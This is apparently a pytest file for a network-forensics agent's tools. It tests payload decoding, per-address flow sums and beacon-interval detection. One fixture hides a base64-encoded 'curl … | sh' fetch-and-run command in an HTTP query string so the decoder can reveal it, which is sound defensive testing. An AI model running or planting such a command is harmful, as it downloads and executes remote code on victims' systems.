"""Payloads come raw and decoded; the flows of an address come with their sums."""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from typing import Any

from engine.agent.tools import Answer, Toolbox
from engine.agent.tools.flows import Payload
from engine.types import FiveTuple, Flow
from tests.engine.agent.cases import LOCAL, TARGET, HostFake, KnowledgeFake, case, flow
from tests.engine.agent.tools.hosts import NONCE


def content(answer: Answer) -> dict[str, Any]:
    assert answer.evidence
    value: dict[str, Any] = json.loads(answer.evidence.content)
    return value


def related(*flows: Flow) -> dict[str, Any]:
    tools = Toolbox(replace(case(), flows=flows), HostFake(), KnowledgeFake(), NONCE)
    return content(tools.call("related_flows", {"ip": TARGET}))


def test_a_payload_is_shown_raw_and_decoded() -> None:
    hidden = base64.b64encode(b"curl http://203.0.113.66/x | sh")
    payload = b"GET /?c=" + hidden.replace(b"=", b"%3D") + b" HTTP/1.1\r\n\r\n"
    tools = Toolbox(case(payload), HostFake(), KnowledgeFake(), NONCE)
    answer = tools.call("flow_payload", {"flow_id": "1:flowone=", "direction": "to_server"})
    told = content(answer)
    assert told["text"].startswith("GET /?c=")
    assert "curl http://203.0.113.66/x | sh" in {one["text"] for one in told["decoded"]}
    assert isinstance(answer.subject, Payload)
    assert answer.subject.raw == payload


def test_the_flows_of_an_address_are_summed_by_direction() -> None:
    incoming = flow(flow_id="1:a=", bytes=(100, 20))
    outgoing = flow(flow_id="1:b=", bytes=(7, 3), five_tuple=FiveTuple(LOCAL, 5, TARGET, 443, "tcp"))
    told = related(incoming, outgoing)
    assert (told["flows"], told["begun"], told["bytes_sent"]) == (3, 2, 900 + 100 + 3)
    assert told["ports"] == {"tcp/8080": 2, "tcp/443": 1}


def test_a_steady_beat_is_told_and_three_flows_have_none() -> None:
    beats = [flow(flow_id=f"1:{n}=", first_seen=100.0 + 60 * n) for n in range(1, 8)]
    told = related(*beats)
    assert (told["interval_s"], told["interval_deviation_s"]) == (60.0, 0.0)
    assert "interval_s" not in related(*beats[:2])
